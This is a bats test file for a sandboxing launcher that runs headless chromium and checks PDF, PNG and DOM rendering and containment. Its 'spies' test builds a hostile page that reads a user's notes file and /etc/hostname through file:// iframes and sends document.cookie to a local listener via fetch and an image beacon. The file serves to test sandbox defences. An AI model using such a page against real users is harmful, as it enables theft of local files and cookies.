# bats file_tags=large
# chromium: pages become PDF, pictures and text; a hostile page shows no file of the user's and reaches nobody.

# shellcheck disable=SC2030,SC2031,SC2034,SC2154 # what bats' run sets
bats_require_minimum_version 1.5.0
load ../lib/common
load ../lib/profiles

setup_file() {
	packages chromium poppler-utils python3
}

setup() {
	residue_before
}

teardown() {
	[ -z "${LISTENER:-}" ] || kill "$LISTENER" || :
	residue_after
}

# chromium outside, with the same switches.
outside() {
	as_launcher env HOME="$USER_TMP" timeout 60 chromium --headless --no-sandbox --no-zygote --disable-gpu --disable-dev-shm-usage \
		--no-first-run --disable-breakpad --log-level=3 --user-data-dir="$USER_TMP/data-$LAUNCHER" "$@"
}

inside() {
	launch -- chromium "$@"
}

renders() {
	cat >style.css <<<'h1 { page-break-before: always } body { background: #ff0000; margin: 0 }'
	echo "document.getElementById('sum').textContent = 'total ' + [1, 2, 39].reduce((a, b) => a + b);" >sum.js
	cat >page.html <<-'END'
		<!doctype html><meta charset=utf-8><title>Invoice</title><link rel=stylesheet href=style.css>
		<p>Grüße, 4711</p><h1>Second page</h1><p id=sum></p>
		<svg width=10 height=10><rect width=10 height=10 fill=blue /></svg><script src=sum.js></script>
	END
	run inside --print-to-pdf=page.pdf page.html
	assert_status 0
	[ "$(pdfinfo page.pdf | sed -n 's/^Pages: *//p')" = 2 ]
	[ "$(pdftotext page.pdf - | tr -d '\f' | grep . | xargs)" = 'Grüße, 4711 Second page total 42' ]
	[ "$(stat -c %u page.pdf)" = "$(stat -c %u .)" ]
	run inside --screenshot=page.png --window-size=640,400 page.html
	assert_status 0
	# Its size, and its colour: rows of one filter, which zlib holds.
	python3 - page.png <<-'END'
		import struct, sys, zlib
		data = open(sys.argv[1], "rb").read()
		assert data[:8] == b"\x89PNG\r\n\x1a\n"
		width, height, depth, kind = struct.unpack(">IIBB", data[16:26])
		assert (width, height, depth) == (640, 400, 8), (width, height, depth)
		at, pixels = 8, b""
		while at < len(data):
		    length, name = struct.unpack(">I4s", data[at:at + 8])
		    if name == b"IDAT":
		        pixels += data[at + 8:at + 8 + length]
		    at += length + 12
		rows = zlib.decompress(pixels)
		assert rows[1:4] == b"\xff\x00\x00", rows[:5]
	END
	run --separate-stderr inside --dump-dom page.html
	assert_status 0
	assert_output '<p id="sum">total 42</p>'
	# As it is most often named.
	run inside --print-to-pdf="$WORK/whole.pdf" "file://$WORK/page.html"
	assert_status 0
	[ "$(pdfinfo whole.pdf | sed -n 's/^Pages: *//p')" = 2 ]
}

@test "a page with script, style and a picture becomes a PDF, a PNG and its text" {
	each_launcher renders
}

spies() {
	local theirs=$TMP/theirs-$LAUNCHER

	echo 'hunter2 of the user' >"$theirs/notes.txt"
	chmod 0644 "$theirs/notes.txt"
	# A server that notes who asks. It has its number in $TMP/port.
	python3 - "$TMP/asked-$LAUNCHER" >"$TMP/port" 3>&- <<-'END' &
		import http.server, sys
		class Notes(http.server.BaseHTTPRequestHandler):
		    def do_GET(self):
		        open(sys.argv[1], "a").write(self.path + "\n")
		        self.send_response(200); self.end_headers(); self.wfile.write(b"x")
		    def log_message(self, *a): pass
		server = http.server.HTTPServer(("127.0.0.1", 0), Notes)
		print(server.server_address[1], flush=True)
		server.serve_forever()
	END
	LISTENER=$!
	wait_until 5 test -s "$TMP/port"
	cat >spy.html <<-END
		<!doctype html><p>Dear reader</p><iframe width=400 src="file://$theirs/notes.txt"></iframe>
		<iframe width=400 src="file:///etc/hostname"></iframe>
		<img src="http://127.0.0.1:$(cat "$TMP/port")/pixel"><script>fetch('http://127.0.0.1:$(cat "$TMP/port")/beacon?' +
		document.cookie, {mode: 'no-cors'})</script>
	END
	run outside --print-to-pdf="$WORK/outside.pdf" "file://$WORK/spy.html"
	assert_status 0
	[[ "$(pdftotext outside.pdf -)" == *hunter2* ]]
	[ ! -s /etc/hostname ] || [[ "$(pdftotext outside.pdf -)" == *"$(cat /etc/hostname)"* ]]
	grep -q /pixel "$TMP/asked-$LAUNCHER"
	rm "$TMP/asked-$LAUNCHER"
	run inside --print-to-pdf=inside.pdf spy.html
	assert_status 0
	[[ "$(pdftotext inside.pdf -)" == *'Dear reader'* ]]
	[[ "$(pdftotext inside.pdf -)" != *hunter2* ]]
	[ ! -s /etc/hostname ] || [[ "$(pdftotext inside.pdf -)" != *"$(cat /etc/hostname)"* ]]
	[ ! -e "$TMP/asked-$LAUNCHER" ]
	run launch --ro "$theirs" -- chromium --print-to-pdf=shown.pdf "file://$WORK/spy.html"
	assert_status 0
	[[ "$(pdftotext shown.pdf -)" == *hunter2* ]]
	kill "$LISTENER"
	wait "$LISTENER" || :
	LISTENER=
	rm "$TMP/port"
	# One that never ends.
	echo '<script>for (;;);</script>' >endless.html
	run launch -s process.time_limit=3s -- chromium --dump-dom endless.html
	assert_status 124
	rm "$WORK"/*.pdf
}

@test "a hostile page shows no file of the user's, calls nobody, and ends" {
	each_launcher spies
}

# What a page that broke the browser would try next.
refusals() {
	refuses_secret
	refuses_writing
	refuses_processes
	refuses_network
	refuses_namespaces
	refuses_setuid
	refuses_memory 512M -s cgroup.memory.max=256M
	# Nothing that it leaves can be executed, here or in memory that has a name.
	refuses sh -c 'cp /bin/true /tmp/true-$$ && /tmp/true-$$ && rm /tmp/true-$$ || exit 1'
	assert_output 'Permission denied'
	# The browser's own sandbox is refused, and says so: why --no-sandbox is there.
	run launch -- /usr/lib/chromium/chromium --headless --disable-gpu --dump-dom about:blank
	[ "$status" -ne 0 ]
	assert_output 'No usable sandbox'
}

@test "a page that broke the browser reads nothing else, reaches nobody, gains nothing" {
	each_launcher refusals
}
